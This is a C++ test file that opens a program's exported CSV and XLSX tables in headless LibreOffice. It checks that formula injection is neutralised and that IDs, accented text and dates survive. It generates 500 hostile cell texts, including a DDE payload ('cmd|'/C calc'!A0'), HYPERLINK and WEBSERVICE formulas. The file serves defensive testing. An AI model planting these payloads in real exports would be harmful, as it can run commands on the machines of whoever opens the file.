// Exported tables opened as their readers open them: LibreOffice without a window. Slow; under ./run test
// --long.
#include <fcntl.h>
#include <spawn.h>
#include <sys/wait.h>
#include <unistd.h>

#include "exchange/table.hpp"
#include "tests/cli/export_world.hpp"

extern char** environ;

namespace clamor::cli::test {
namespace {

using ::testing::HasSubstr;

class Office : public Export {
 protected:
  void SetUp() override {
    Export::SetUp();
    if (std::system("command -v soffice >/dev/null 2>&1") != 0)
      GTEST_SKIP() << "opening tables needs LibreOffice (Debian: libreoffice-calc-nogui)";
  }

  // The file as LibreOffice understood it, as flat XML: values, texts and formulas of every cell.
  std::string opened(const fs::path& file) {
    const std::string profile = "-env:UserInstallation=file://" + (folder_ / "office").string();
    std::vector<std::string> words{"soffice", profile, "--headless"};
    if (file.extension() == ".csv") words.emplace_back("--infilter=CSV:44,34,76,1");  // comma, quotes, UTF-8
    words.insert(words.end(),
                 {"--convert-to", "fods", "--outdir", (folder_ / "opened").string(), file.string()});
    std::vector<char*> args;
    for (std::string& word : words) args.push_back(word.data());
    args.push_back(nullptr);
    posix_spawn_file_actions_t quiet;
    posix_spawn_file_actions_init(&quiet);
    posix_spawn_file_actions_addopen(&quiet, STDOUT_FILENO, "/dev/null", O_WRONLY, 0);
    posix_spawn_file_actions_addopen(&quiet, STDERR_FILENO, "/dev/null", O_WRONLY, 0);
    pid_t child = 0;
    EXPECT_EQ(::posix_spawnp(&child, "soffice", &quiet, nullptr, args.data(), environ), 0);
    posix_spawn_file_actions_destroy(&quiet);
    int status = 0;
    ::waitpid(child, &status, 0);
    return text_of(folder_ / "opened" / (file.stem().string() + ".fods"));
  }

  static std::size_t count(const std::string& text, const std::string& word) {
    std::size_t times = 0;
    for (auto at = text.find(word); at != std::string::npos; at = text.find(word, at + word.size())) ++times;
    return times;
  }
};

// What strangers might write into a name or a text.
std::vector<std::string> hostile_texts(std::size_t many) {
  const std::vector<std::string> before{"",       " ",      "\t", "\r", "\n", "\u00A0",
                                        "\u200B", "\uFEFF", "'",  "\"", ";",  "\x01"};
  const std::vector<std::string> signs{"=", "+", "-", "@", "＝", "＋", "－", "＠"};
  const std::vector<std::string> bodies{"1+1",
                                        "cmd|'/C calc'!A0",
                                        "HYPERLINK(\"https://example.org/\"&A1;\"ver\")",
                                        "SUM(1,1)*2",
                                        "WEBSERVICE(\"https://example.org\")",
                                        "A1\n=B1",
                                        "1+1\",=1+1,\""};
  std::vector<std::string> all;
  for (std::size_t i = 0; all.size() < many; ++i)
    all.push_back(before[i % before.size()] + signs[i / before.size() % signs.size()] +
                  bodies[i / before.size() / signs.size() % bodies.size()] + (i % 3 == 0 ? " ñandú" : ""));
  return all;
}

TEST_F(Office, FindsNoFormulaInFiveHundredHostileCells) {
  PreparedPage page = page_of({});
  page.authors = {profile(1)};
  page.authors[0].display_name = "=1+1";
  page.authors[0].handle = "@SUM(1,1)";
  int number = 0;
  for (const std::string& text : hostile_texts(500))
    page.posts.push_back(post_of(++number, 1, std::chrono::minutes{number}, text));
  save(page);
  for (const char* name : {"posts.csv", "posts.xlsx"}) {
    const std::string seen = opened(exported("posts", name, {"--identify", "--yes"}));
    EXPECT_GE(count(seen, "<table:table-row"), 500u) << name;
    EXPECT_EQ(count(seen, "table:formula="), 0u) << name;
    EXPECT_EQ(count(seen, "<text:a "), 0u) << name;  // no links to click either
    EXPECT_GE(count(seen, "ñandú"), 166u) << name;
  }
  // The same rows unprotected, to know that this test can see a formula.
  const fs::path raw = exported("posts", "raw.csv", {"--identify", "--yes", "--raw"});
  EXPECT_GT(count(opened(raw), "table:formula="), 0u);
}

TEST_F(Office, KeepsIdsAccentsAndDates) {
  PreparedPage page = page_of({});
  Author author = profile(1);
  author.key = {Network::x, "1252260000000000017"};  // a spreadsheet's number would end in 000
  author.handle = "cuenta_simulada_1";
  author.display_name = "Niñez y Corazón — Ángela 😀";
  page.authors = {author};
  PreparedPost post = post_of(1, 1, {}, "¿Dónde están? Ñ, á, ü: «aquí» _x0041_ 日本");
  post.post.key = {Network::x, "1256000000000000123"};
  post.post.author = author.key;
  page.posts = {post};
  save(page);
  for (const char* name : {"posts.csv", "posts.xlsx"}) {
    const std::string seen = opened(exported("posts", name, {"--identify", "--yes"}));
    EXPECT_THAT(seen, HasSubstr("x:1256000000000000123")) << name;
    EXPECT_THAT(seen, HasSubstr("x:1252260000000000017")) << name;
    EXPECT_THAT(seen, HasSubstr("Niñez y Corazón — Ángela 😀")) << name;
    EXPECT_THAT(seen, HasSubstr("¿Dónde están? Ñ, á, ü: «aquí» _x0041_ 日本")) << name;
    EXPECT_THAT(seen, HasSubstr("office:value-type=\"date\" office:date-value=\"2020-05-01\"")) << name;
    EXPECT_THAT(seen, HasSubstr("office:date-value=\"2020-05-01T07:00:00\""))
        << name;  // the campaign's clock
  }
}

TEST_F(Office, FindsTheRestOfALongTableOnTheNextSheet) {
  const fs::path file = folder_ / "long.xlsx";
  exchange::About about;
  about.definitions_title = "definitions";
  const auto writer = exchange::find_table_format("xlsx")->open(about, file);
  writer->begin({"posts", {{"n", exchange::Type::integer, "", "", ""}}});
  constexpr std::int64_t rows = 1'048'576 + 1;  // one with the heading, two on the next sheet
  for (std::int64_t i = 1; i <= rows; ++i) writer->row(std::vector<exchange::Cell>{i});
  ASSERT_TRUE(writer->finish());
  EXPECT_EQ(writer->fitted().sheets, 2);
  const std::string seen = opened(file);
  const auto next = seen.find("table:name=\"posts 2\"");
  ASSERT_NE(next, std::string::npos);
  EXPECT_NE(seen.find("office:value=\"1048577\"", next), std::string::npos);
  EXPECT_LT(seen.find("office:value=\"1048575\""), next);
}

TEST_F(Office, ReadsEveryTableOfAnXlsx) {
  save_campaign();
  for (const char* what : {"posts", "authors", "timeline", "edges", "links", "readings", "coverage"}) {
    const std::string seen = opened(exported(what, std::string(what) + ".xlsx"));
    EXPECT_THAT(seen, HasSubstr("table:name=\"" + std::string(what) + "\""));
    EXPECT_THAT(seen, HasSubstr("table:name=\"definitions\""));
    EXPECT_THAT(seen, HasSubstr("table:name=\"coverage\""));
  }
}

}  // namespace
}  // namespace clamor::cli::test
